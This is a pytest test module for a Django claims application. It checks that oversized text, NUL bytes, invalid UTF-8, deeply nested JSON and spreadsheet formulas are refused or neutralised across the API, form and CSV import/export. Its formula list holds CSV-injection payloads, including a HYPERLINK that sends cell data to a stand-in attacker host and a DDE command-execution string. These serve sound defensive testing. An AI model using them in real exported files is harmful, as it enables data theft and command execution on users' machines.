"""Hostile fields on the claims side, on the real paths (the API, the Log claim page, the
CSV import and export): a 100,000-character claim, NUL characters, invalid UTF-8,
values longer than their columns, deeply nested JSON, and spreadsheet formulas in
exported cells. Every refusal says why, none is a 500 (these tests run on PostgreSQL in
CI, which refuses NUL and over-long values outright), and a refused request leaves every
stored row as it was (tests/stored_state.py).

Decisions: a claim's wording is at most 2,000 characters everywhere (the form, the API,
the CSV import and the service itself): a claim is a statement, not an article. Cells of
the CSV export that a spreadsheet would run as a formula get a leading apostrophe, which
the import removes again, so an exported file imports back exactly.
"""

import csv
import io

import pytest
from django.core.cache import caches
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from articles.models import SourceKind
from claims.models import Claim
from claims.services import appearance_create, claim_create, source_named
from tests.conftest import api_client
from tests.factories import make_article, make_claim
from tests.stored_state import assert_unchanged, stored_rows

pytestmark = pytest.mark.django_db

TEXT = (
    "Meta released LLaMA 2 on Tuesday. The model is free for research and commercial use, "
    "the company said."
)
QUOTE = "The model is free for research and commercial use"
HUGE = "Meta will release a model. " * 3704  # 100,008 characters
IMPORT = "/api/v1/claims/import/"


@pytest.fixture
def api(journalist):
    return api_client(journalist)  # its token issued before any snapshot


@pytest.fixture
def article():
    return make_article(title="LLaMA 2 is out", text=TEXT)


def _error(response) -> dict:
    return response.json()["error"]


def _csv(*rows) -> dict:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return {"file": SimpleUploadedFile("claims.csv", out.getvalue().encode())}


def _import(api, upload):
    return api.post(IMPORT, upload, format="multipart", secure=True)


# --- 100,000 characters ----------------------------------------------------------------------


def test_a_100000_character_claim_is_refused_by_the_api_with_the_limit(api, journalist):
    claim = make_claim(journalist, text="A short claim.", kind="fact")
    before = stored_rows()
    created = api.post(
        "/api/v1/claims/", {"text": HUGE, "kind": "fact"}, format="json", secure=True
    )
    changed = api.patch(f"/api/v1/claims/{claim.pk}/", {"text": HUGE}, format="json", secure=True)
    for response in (created, changed):
        assert response.status_code == 400
        assert _error(response)["details"]["text"] == [
            "Ensure this field has no more than 2000 characters."
        ]
    assert_unchanged(before)


def test_a_100000_character_claim_is_refused_on_the_log_claim_page(client, journalist, article):
    client.force_login(journalist)
    before = stored_rows()
    start = TEXT.index(QUOTE)
    response = client.post(
        reverse("claims:log", args=[article.pk]),
        {"start": start, "end": start + len(QUOTE), "quote": QUOTE, "text": HUGE, "kind": "fact"}
        | {"speaker_kind": "person"},
        secure=True,
    )
    assert response.status_code == 200  # the form again, with the reason on the field
    (problem,) = response.context["form"].errors["text"]
    assert problem.startswith("Ensure this value has at most 2000 characters (it has 100")
    assert_unchanged(before)


def test_a_100000_character_claim_is_refused_by_the_csv_import_and_the_service(api, journalist):
    before = stored_rows()
    response = _import(api, _csv(["text", "kind"], ["A fine claim.", "fact"], [HUGE, "fact"]))
    assert response.status_code == 400
    assert _error(response)["details"]["rows"] == [
        {"row": 2, "errors": {"text": ["Keep the claim under 2000 characters."]}}
    ]
    assert_unchanged(before)
    with pytest.raises(ValidationError) as refused:
        claim_create(text=HUGE, kind="fact", actor=journalist)
    assert refused.value.message_dict["text"] == [
        "Keep the claim under 2,000 characters (it has 100,007): a claim is a statement, "
        "not the article."
    ]
    assert_unchanged(before)


# --- NUL, invalid UTF-8 ----------------------------------------------------------------------


def test_nul_in_the_claims_api_json_fields_is_a_400(api, journalist, article):
    claim = make_claim(journalist, text="A short claim.", kind="fact")
    before = stored_rows()
    start = TEXT.index(QUOTE)
    cases = [
        ("post", "/api/v1/claims/", {"text": "A\u0000claim", "kind": "fact"}, "text"),
        ("post", "/api/v1/claims/", {"text": "A claim", "tags": ["ll\u0000ama"]}, "tags"),
        ("patch", f"/api/v1/claims/{claim.pk}/", {"text": "\u0000"}, "text"),
        (
            "post",
            "/api/v1/appearances/",
            {
                "claim": claim.pk,
                "article": article.pk,
                "start": start,
                "end": start + len(QUOTE),
                "attribution": "said\u0000",
            },
            "attribution",
        ),
    ]
    for method, path, payload, field in cases:
        response = getattr(api, method)(path, payload, format="json", secure=True)
        assert response.status_code == 400, (path, response.content)
        assert field in _error(response)["details"], response.content
    assert_unchanged(before)


def test_a_json_body_that_is_not_utf8_is_a_400(api):
    before = stored_rows()
    for body in (b'{"text": "Caf\xe9", "kind": "fact"}', b'{"text": "\xed\xa0\x80"}'):
        response = api.post("/api/v1/claims/", body, content_type="application/json", secure=True)
        assert response.status_code == 400 and _error(response)["code"] == "parse_error"
    assert_unchanged(before)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"text,kind\nA\x00claim,fact\n", "The file contains NUL characters"),
        (b"text,kind\nCaf\xe9 claim,fact\n", "The file is not UTF-8 text (byte 14 cannot be read)"),
        (b"\xff\xfe" + "text\nA claim\n".encode("utf-16-le"), "The file is not UTF-8 text"),
    ],
)
def test_a_claims_csv_that_is_not_utf8_text_is_refused_whole(api, content, message):
    before = stored_rows()
    response = _import(api, {"file": SimpleUploadedFile("claims.csv", content)})
    assert response.status_code == 400
    (problem,) = _error(response)["details"]["rows"]
    assert problem["row"] is None and problem["errors"]["file"][0].startswith(message)
    assert_unchanged(before)


def test_the_log_claim_page_refuses_nul_and_overlong_fields_on_the_form(
    client, journalist, article
):
    """The page's fields are as long as their columns (a 400-character attribution was
    a database error on PostgreSQL, where the column holds 300)."""
    client.force_login(journalist)
    before = stored_rows()
    start = TEXT.index(QUOTE)
    base = {"start": start, "end": start + len(QUOTE), "quote": QUOTE, "kind": "fact"}
    base |= {"text": "The model is free.", "speaker_kind": "person"}
    cases = [
        ({"speaker": "Me\x00ta"}, "speaker", "Null characters are not allowed."),
        ({"text": "A\x00claim"}, "text", "Null characters are not allowed."),
        ({"attribution": "x" * 400}, "attribution", "at most 300 characters"),
        ({"speaker": "x" * 201}, "speaker", "at most 200 characters"),
    ]
    for fields, field, message in cases:
        response = client.post(reverse("claims:log", args=[article.pk]), base | fields, secure=True)
        assert response.status_code == 200
        assert message in " ".join(response.context["form"].errors[field]), fields
    too_long_tag = client.post(
        reverse("claims:log", args=[article.pk]), base | {"tags": "t" * 100}, secure=True
    )
    assert "Keep each tag under 60 characters." in too_long_tag.content.decode()
    assert_unchanged(before)


def test_the_services_refuse_what_the_columns_cannot_hold(journalist, article):
    """Whatever the entry point, the service refuses an over-long attribution or tag and
    a NUL in a claim's wording, rather than let the database fail."""
    before = stored_rows()
    start = TEXT.index(QUOTE)
    with pytest.raises(ValidationError) as refused:
        claim_create(text="A claim.", kind="fact", tags=["t" * 100], actor=journalist)
    assert "tags" in refused.value.message_dict
    with pytest.raises(ValidationError) as refused:
        claim_create(text="A\x00claim.", kind="fact", actor=journalist)
    assert "text" in refused.value.message_dict
    assert_unchanged(before)
    claim = make_claim(journalist, text="A claim.", kind="fact")
    before = stored_rows()
    with pytest.raises(ValidationError) as refused:
        appearance_create(
            claim=claim,
            article=article,
            start=start,
            end=start + len(QUOTE),
            actor=journalist,
            attribution="x" * 301,
        )
    assert refused.value.message_dict["attribution"] == [
        "Keep the attribution under 300 characters."
    ]
    assert_unchanged(before)


# --- Deeply nested JSON ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    ["[" * 100_000, '{"a":' * 100_000, "[" * 100_000 + "]" * 100_000],
    ids=["100000 open brackets", "100000 open objects", "100000 closed brackets"],
)
@pytest.mark.parametrize(
    "path", ["/api/v1/claims/", "/api/v1/articles/", "/api/v1/auth/token/", "/api/v1/webhooks/"]
)
def test_deeply_nested_json_is_a_400_not_a_recursion_error(editor, body, path):
    api = api_client(editor)  # editors may post to every one of these
    caches["throttle"].clear()  # the token endpoint's throttle counts by address, across tests
    before = stored_rows()
    response = api.post(path, body, content_type="application/json", secure=True)
    assert response.status_code == 400, response.content
    assert _error(response)["code"] == "parse_error"
    assert_unchanged(before)


def test_json_nested_past_32_levels_inside_a_field_is_refused(api, journalist):
    claim = make_claim(journalist, text="A claim.", kind="fact")
    before = stored_rows()
    nested = "[" * 40 + '"llama"' + "]" * 40
    for method, path in (("post", "/api/v1/claims/"), ("patch", f"/api/v1/claims/{claim.pk}/")):
        response = getattr(api, method)(
            path,
            f'{{"text": "A claim.", "tags": {nested}}}',
            content_type="application/json",
            secure=True,
        )
        assert response.status_code == 400
        assert _error(response) == {
            "code": "parse_error",
            "message": "The JSON is nested more than 32 levels deep.",
            "details": {},
        }
    assert_unchanged(before)


# --- Formula injection in the CSV export -----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/"&A1, "Click")',
    "+1 and more",
    "-2 or less",
    "@SUM(A1:A9)",
    "'=1+1 already guarded by hand",
    "''=2 twice",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_every_cell_of_the_export_is_inert_and_imports_back_exactly(journalist, editor):
    article = make_article(text="Quoted words here, and more of them.")
    for number, formula in enumerate(FORMULAS):
        claim = make_claim(journalist, text=f"placeholder {number}", kind="fact", tags=["x"])
        # The service tidies white space; a leading tab or CR needs a direct write.
        Claim.objects.filter(pk=claim.pk).update(text=formula)
        appearance_create(
            claim=claim,
            article=article,
            start=0,
            end=6,
            actor=journalist,
            speaker=source_named(f"{formula[:150]} {number}", kind=SourceKind.PERSON),
        )
    reader = api_client(editor)

    response = reader.get("/api/v1/claims/export/", secure=True)
    exported = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell  # a spreadsheet shows it as text
    texts = {row[1] for row in rows[1:]}
    assert texts == {"'" + f if f.lstrip("'").startswith(TRIGGERS) else f for f in FORMULAS}

    Claim.objects.all().delete()
    upload = {"file": SimpleUploadedFile("claims.csv", exported.encode())}
    imported = reader.post(IMPORT, upload, format="multipart", secure=True)
    assert imported.status_code == 201, imported.content
    # The texts exported: the apostrophe guard is removed again, and a text that really
    # starts with an apostrophe keeps it. (The import tidies white space as every entry
    # point does, so the tab and CR that only a direct write could store are gone.)
    expected = {" ".join(formula.split()) for formula in FORMULAS}
    assert set(Claim.objects.values_list("text", flat=True)) == expected
